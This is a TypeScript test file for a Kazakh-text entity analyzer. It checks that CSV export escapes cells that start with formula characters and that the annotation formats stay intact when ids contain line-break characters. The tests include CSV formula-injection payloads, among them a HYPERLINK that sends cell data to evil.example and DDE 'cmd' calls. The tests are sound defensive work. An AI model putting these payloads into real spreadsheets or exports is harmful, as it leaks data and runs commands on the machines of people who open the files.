import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvHeader, csvRows, formatDocument, TABLES, type TableName } from "../../src/entries/output";
import { analyze, createAnalyzer } from "../../src/index";
import { documentOf, ESCAPES, INHERITED, SCRIPT } from "./attacks";

const NAMES = Object.keys(TABLES) as TableName[];

/** A body with this name and kind, under an id that begins the same way. */
function bodyNamed(name: string) {
  const { analyze } = createAnalyzer({
    entities: { lexicon: [{ name, label: "ORGANISATION", kind: name, aliases: ["Қазтест"] }] },
  });
  return analyze("Қазтест ашылды.", { id: name });
}

describe("CSV", () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"басыңыз")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+1";=1+1',
  ];

  it.each(FORMULAS)("begins no cell as a formula: %j", (formula) => {
    const doc = bodyNamed(formula);
    expect(doc.organizations[0]!.name).toBe(formula);
    const [row] = parse(csvHeader("organizations") + csvRows(doc, "organizations"), { columns: true, trim: false });
    expect(row).toMatchObject({ document: `'${formula}`, name: `'${formula}`, kind: `'${formula}`, text: "Қазтест" });
  });

  it.each(["=1", "+1", "-1", "@1", "\t1", "\r1"])("nor one from the text: %j", (evil) => {
    const doc = documentOf(evil);
    for (const name of NAMES) {
      const rows: string[][] = parse(csvRows(doc, name), { relax_column_count: false });
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^(?:[=+@\t\r]|-(?!\d+(?:\.\d+)?$))/);
    }
  });

  it("leaves numbers as they are", () => {
    const doc = analyze("Түнде ауа температурасы -5 градус болды.");
    expect(doc.quantities[0]!.value).toBe(-5);
    expect(csvRows(doc, "quantities")).toContain(",-5,");
  });

  it.each([SCRIPT, ESCAPES, 'а"б', "а,б", "а\nб", "а\r\nб", '","', '"\n"', "а;б"])(
    "keeps its columns with %j",
    (evil) => {
      for (const name of NAMES) {
        const doc = documentOf(evil);
        const rows: string[][] = parse(csvHeader(name) + csvRows(doc, name), { relax_column_count: false });
        expect(rows).toHaveLength(1 + TABLES[name].rows(doc).length);
        for (const [id] of rows.slice(1)) expect(id).toBe(`${evil}/мақала`);
      }
    },
  );

  it.each(INHERITED)("has no table %s", (name) => {
    expect(() => csvHeader(name as TableName)).toThrow(
      `csvHeader: table must be one of ${NAMES.join(", ")}, got "${name}"`,
    );
    expect(() => csvRows(analyze(""), name as TableName)).toThrow("csvRows: table must be one of");
  });
});

describe("formats of lines", () => {
  const BREAKS = [
    "\n",
    "\r",
    "\r\n",
    "\t",
    "\u0085",
    "\u2028",
    "\u2029",
    "\u000b",
    "\u000c",
    "\u001e",
    "\n\n",
    "\n# id = x\nА B-GPE\n",
  ];
  // biome-ignore lint/suspicious/noControlCharactersInRegex: Python ends a line at these.
  const LINE = /[\r\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/;

  it.each(BREAKS)("have no line that an id or a word made: CoNLL, %j", (evil) => {
    const doc = documentOf(`а${evil}б`);
    const conll = formatDocument(doc, "conll");
    expect(conll).not.toMatch(LINE);
    expect(conll.split("\n").filter((line) => line.startsWith("# id = "))).toHaveLength(doc.sentences.length);
    for (const line of conll.split("\n")) expect(line).toMatch(/^(?:|# id = .+|\S+ (?:O|[BI]-[A-Z_]+))$/);
  });

  it.each(BREAKS)("nor in CoNLL-U: %j", (evil) => {
    const doc = documentOf(`а${evil}б`);
    const conllu = formatDocument(doc, "conllu");
    expect(conllu).not.toMatch(LINE);
    expect(conllu.split("\n").filter((line) => line.startsWith("# sent_id"))).toHaveLength(doc.sentences.length);
    for (const line of conllu.split("\n"))
      expect(line).toMatch(/^(?:|# (?:newdoc id|sent_id|text) = .*|(?:[^\t]+\t){9}[^\t]+)$/);
  });

  it.each(BREAKS)("nor in brat, JSON lines and annotations: %j", (evil) => {
    const doc = documentOf(`а${evil}б`);
    for (const line of formatDocument(doc, "brat").trimEnd().split("\n")) expect(line).toMatch(/^[TAR#]\d+\t\S.*$/);
    for (const format of ["jsonl", "annotations"] as const) {
      const lines = formatDocument(doc, format).split("\n");
      expect(lines).toHaveLength(2);
      expect(JSON.parse(lines[0]!)).toBeTypeOf("object");
    }
  });
});
